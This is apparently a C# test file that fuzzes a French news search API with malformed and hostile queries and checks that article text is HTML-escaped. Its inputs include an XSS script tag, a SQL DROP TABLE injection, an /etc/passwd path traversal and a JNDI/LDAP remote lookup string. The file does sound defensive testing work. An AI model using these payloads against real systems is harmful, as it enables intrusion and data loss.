using System.Net;
using System.Text.Json;
using System.Text.RegularExpressions;
using CsCheck;
using SearchService.Tests.Support;

namespace SearchService.Tests.Endpoints;

/// <summary>No text of a query is an error of the service, and no text of an article comes out as HTML.</summary>
public sealed partial class HostileQueryTests(NewsService news) : IClassFixture<NewsService>
{
    private static readonly string[] Pieces =
    [
        "\"", "«", "»", "“", "”", "„", "-", "--", "(", ")", "*", "~", "~3", ":", "=", "+", "&&", "||", "!", "^", "{", "}", "[", "]", "/", "\\", " ", " ",
        "titre:", "date:[", "TO", "ET", "OU", "SAUF", "NOT", "PRES/5", "<script>", "<mark>", "&lt;", "poney", "écoles", "l'", "d’", "la", "A&B", "0",
        "\0", "\t", "\r\n", "\u202e", "\u0301", "\ufeff", "\ud800", "\udc00", "😀", "ﬁ", "œ", "İ", "ß", "%", "%00", "#", "?", "'", "\u00a0", "\u200b",
    ];

    [Theory]
    [InlineData("\"")]
    [InlineData("\"\"")]
    [InlineData("\"\"\"")]
    [InlineData("« écoles")]
    [InlineData("écoles »")]
    [InlineData("“écoles\"")]
    [InlineData("\"écoles")]
    [InlineData("\"écoles\"~")]
    [InlineData("\"écoles parents\"~99999999999999")]
    [InlineData("-")]
    [InlineData("--")]
    [InlineData("-écoles")]
    [InlineData("--écoles")]
    [InlineData("- écoles")]
    [InlineData("-\"la mairie\"")]
    [InlineData("-écoles écoles")]
    [InlineData("-\"")]
    [InlineData("(")]
    [InlineData(")")]
    [InlineData("((((((((((écoles")]
    [InlineData("écoles))))))))))")]
    [InlineData("()")]
    [InlineData("*")]
    [InlineData("**")]
    [InlineData("*coles")]
    [InlineData("éc*les*")]
    [InlineData("?")]
    [InlineData("éc?les")]
    [InlineData("écoles~")]
    [InlineData("écoles~2147483648")]
    [InlineData("écoles^-1")]
    [InlineData("écoles^1e999")]
    [InlineData("=")]
    [InlineData("=écoles")]
    [InlineData(":")]
    [InlineData("::")]
    [InlineData("titre:")]
    [InlineData(":écoles")]
    [InlineData("inconnu:écoles")]
    [InlineData("date:[2025 TO")]
    [InlineData("date:[x..y]")]
    [InlineData("[a TO z]")]
    [InlineData("{* TO *}")]
    [InlineData("AND")]
    [InlineData("ET OU SAUF")]
    [InlineData("écoles ET")]
    [InlineData("OU écoles")]
    [InlineData("NOT NOT NOT écoles")]
    [InlineData("a PRES/ b")]
    [InlineData("a PRES/-5 b")]
    [InlineData("/(a+)+$/")]
    [InlineData("\\")]
    [InlineData("écoles\\")]
    [InlineData("\\u0000")]
    [InlineData("a\0b")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<mark>poney</mark>")]
    [InlineData("&lt;b&gt; &amp; &#60;")]
    [InlineData("' OR 1=1; DROP TABLE articles; --")]
    [InlineData("../../../etc/passwd")]
    [InlineData("${jndi:ldap://exemple.fr/x}")]
    [InlineData("%s%n%x {0} {1}")]
    [InlineData("\ud83d\ude00 😀 👨‍👩‍👧")]
    [InlineData("\u202eécoles\u202c")]
    [InlineData("e\u0301coles e\u0301\u0301\u0301")]
    [InlineData("ﬁnale ŒUVRE ß İstanbul")]
    [InlineData("学校 школа مدرسة")]
    [InlineData("\ufeff\u200b\u00ad")]
    [InlineData("l' d' qu' '")]
    [InlineData("la le les de du des")]
    public async Task A_hostile_query_is_answered(string query)
    {
        foreach (var words in new[] { "auto", "all", "any" })
        {
            await AssertAnsweredAsync("/api/search?explain=true&operator=" + words + "&q=" + Uri.EscapeDataString(query));
        }
    }

    [Theory]
    [InlineData("q=%")]
    [InlineData("q=%zz")]
    [InlineData("q=%FF%FE")]
    [InlineData("q=%C3")]
    [InlineData("q=%ED%A0%80")]
    [InlineData("q=%00")]
    [InlineData("q=a&q=b")]
    [InlineData("q")]
    [InlineData("&&&=&q")]
    [InlineData("topic=%FF&story=%00&source=%ED%A0%80")]
    [InlineData("topic=a/b/c/&topic=/&topic=//")]
    public async Task A_broken_address_is_answered(string parameters) => await AssertAnsweredAsync("/api/search?" + parameters);

    [Fact]
    public async Task Many_quotes_and_minus_signs_are_answered()
    {
        await AssertAnsweredAsync("/api/search?q=" + Uri.EscapeDataString(string.Concat(Enumerable.Repeat("\"a\" -b ", 280))));
        await AssertAnsweredAsync("/api/search?q=" + Uri.EscapeDataString(new string('"', 2000)));
        await AssertAnsweredAsync("/api/search?q=" + Uri.EscapeDataString(new string('(', 2000)));
        await AssertAnsweredAsync("/api/search?q=" + new string('a', 2000));
    }

    [Fact]
    public async Task Random_queries_are_answered_with_sound_HTML() =>
        await Gen.Select(Gen.Frequency((8, OneOf(Pieces)), (1, Gen.String[0, 8])).Array[0, 25], OneOf("auto", "all", "any"))
            .SampleAsync(
                async (pieces, words) =>
                {
                    await AssertAnsweredAsync($"/api/search?operator={words}&q={Uri.EscapeDataString(string.Concat(pieces))}");
                    return true;
                },
                iter: 400,
                threads: 2);

    [Theory]
    [InlineData("poney", "Un &lt;b&gt;<mark>poney</mark>&lt;/b&gt; &amp; deux ânes devant le juge.")]
    [InlineData("juge", "Un &lt;b&gt;poney&lt;/b&gt; &amp; deux ânes devant le <mark>juge</mark>.")]
    public async Task The_text_of_an_article_is_escaped(string query, string html)
    {
        var hit = (await news.Client.SearchAsync(query)).GetProperty("hits")[0];
        Assert.Equal(html, hit.GetProperty("passages")[0].GetProperty("html").GetString());
    }

    private static Gen<string> OneOf(params string[] texts) => Gen.Int[0, texts.Length - 1].Select(i => texts[i]);

    private async Task AssertAnsweredAsync(string path)
    {
        using var answer = await news.Client.GetAsync(path);
        var text = await answer.Content.ReadAsStringAsync();
        Assert.True(answer.StatusCode == HttpStatusCode.OK, $"{path}: {(int)answer.StatusCode} {text}");
        using var json = JsonDocument.Parse(text);
        foreach (var hit in json.RootElement.GetProperty("hits").EnumerateArray())
        {
            AssertSound(hit.GetProperty("headlineHtml").GetString()!, hit.GetProperty("headline").GetString()!);
            foreach (var passage in hit.GetProperty("passages").EnumerateArray())
            {
                AssertSound(passage.GetProperty("html").GetString()!, passage.GetProperty("text").GetString()!);
            }
        }
    }

    private static void AssertSound(string html, string text)
    {
        var plain = Mark().Replace(html, "$1");
        Assert.DoesNotContain('<', plain);
        Assert.DoesNotContain('>', plain);
        Assert.DoesNotMatch("&(?!amp;|lt;|gt;|quot;|#39;)", plain);
        Assert.Equal(text, WebUtility.HtmlDecode(plain));
    }

    [GeneratedRegex("<mark>([^<>]+)</mark>")]
    private static partial Regex Mark();
}
